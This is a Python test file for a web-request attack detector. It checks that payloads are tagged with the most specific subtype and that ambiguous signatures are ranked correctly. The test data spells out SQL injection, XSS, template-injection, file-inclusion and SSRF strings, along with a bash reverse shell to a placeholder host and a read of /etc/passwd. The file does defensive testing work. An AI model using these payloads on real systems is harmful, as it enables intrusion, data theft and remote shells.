"""An attack that several signatures found is called by what says most about it (A1.2)."""

from __future__ import annotations

from urllib.parse import quote

import pytest
from tests.pointing import reading

from apitrail.inspect.attacks.detecting import findings
from apitrail.inspect.attacks.matching import CATALOGUE
from apitrail.inspect.attacks.signature import Hit, Signature
from apitrail.inspect.attacks.telling import VAGUE, most_telling
from apitrail.inspect.attacks.value import Value
from apitrail.model.exchange import Exchange

pytestmark = pytest.mark.rows("A1.2")

ELSEWHERE = {("graphql", "size"), ("file_upload", "name"), ("deserialize", "type-name")}
"""Subtypes of checks that look at a whole request, which are in no catalogue."""


@pytest.mark.parametrize(
    ("text", "kind", "subtype"),
    [
        ("1' union select login,pass from users--", "sqli", "union"),
        ("1'; drop table users--", "sqli", "stacked"),
        ("1' and sleep(5)--", "sqli", "time"),
        ("1;select pg_sleep(5)", "sqli", "time"),
        ("1'; waitfor delay '0:0:5'--", "sqli", "time"),
        ("1'; exec xp_cmdshell('dir')--", "sqli", "procedure"),
        ("1' and (select count(*) from information_schema.tables)>1--", "sqli", "schema"),
        ("1' or 1=1--", "sqli", "tautology"),
        ("admin'--", "sqli", "breakout"),
        ('"><script>alert(1)</script>', "xss", "script"),
        ("<img src=x onerror=alert(1)>", "xss", "handler"),
        ("<iframe src=javascript:alert(1)>", "xss", "url"),
        (";bash -i >& /dev/tcp/192.0.2.4/9 0>&1", "rce", "reverse-shell"),
        (";cat /etc/passwd", "rce", "shell"),
        ("{{''.__class__.__mro__[1].__subclasses__()}}", "ssti", "objects"),
        ("{{7*7}}", "ssti", "expression"),
        ("../../../../etc/passwd%00", "lfi", "null-byte"),
        ("php://filter/convert.base64-encode/resource=/etc/passwd", "lfi", "wrapper"),
        ("gopher://127.0.0.1:6379/_x", "ssrf", "scheme"),
    ],
)
def test_the_subtype_says_what_an_attack_does(text: str, kind: str, subtype: str) -> None:
    """Leaving a string, a separator or an expression is how an attack begins; what it does then is its name."""
    found = findings(reading(Exchange(method="GET", path="/", query=f"id={quote(text)}")))
    assert subtype in {one.subtype for one in found if one.type == kind}


def _hit(subtype: str, sure: float) -> Hit:
    return Hit(Signature(f"r-{subtype}-{sure}", "sqli", subtype, "x"), Value("x", "request", "query", ("a",)), 0, 1, sure)


def test_what_is_not_sure_enough_names_nothing() -> None:
    """A telling signature that hardly fits leaves the name to a vague one that does."""
    assert most_telling([_hit("breakout", 0.95), _hit("union", 0.4)]).signature.subtype == "breakout"
    assert most_telling([_hit("breakout", 0.95), _hit("union", 0.8)]).signature.subtype == "union"
    assert most_telling([_hit("breakout", 0.5), _hit("union", 0.4)]).signature.subtype == "breakout"
    assert most_telling([_hit("time", 0.8), _hit("union", 0.9)]).signature.subtype == "union"


@pytest.mark.parametrize("kind", VAGUE)
def test_every_vague_subtype_is_one(kind: str) -> None:
    """The table names subtypes that signatures have, each once, and leaves some that are more telling."""
    known = {one.subtype for one in CATALOGUE if one.type == kind}
    assert all(subtype in known or (kind, subtype) in ELSEWHERE for subtype in VAGUE[kind])
    assert len(set(VAGUE[kind])) == len(VAGUE[kind])
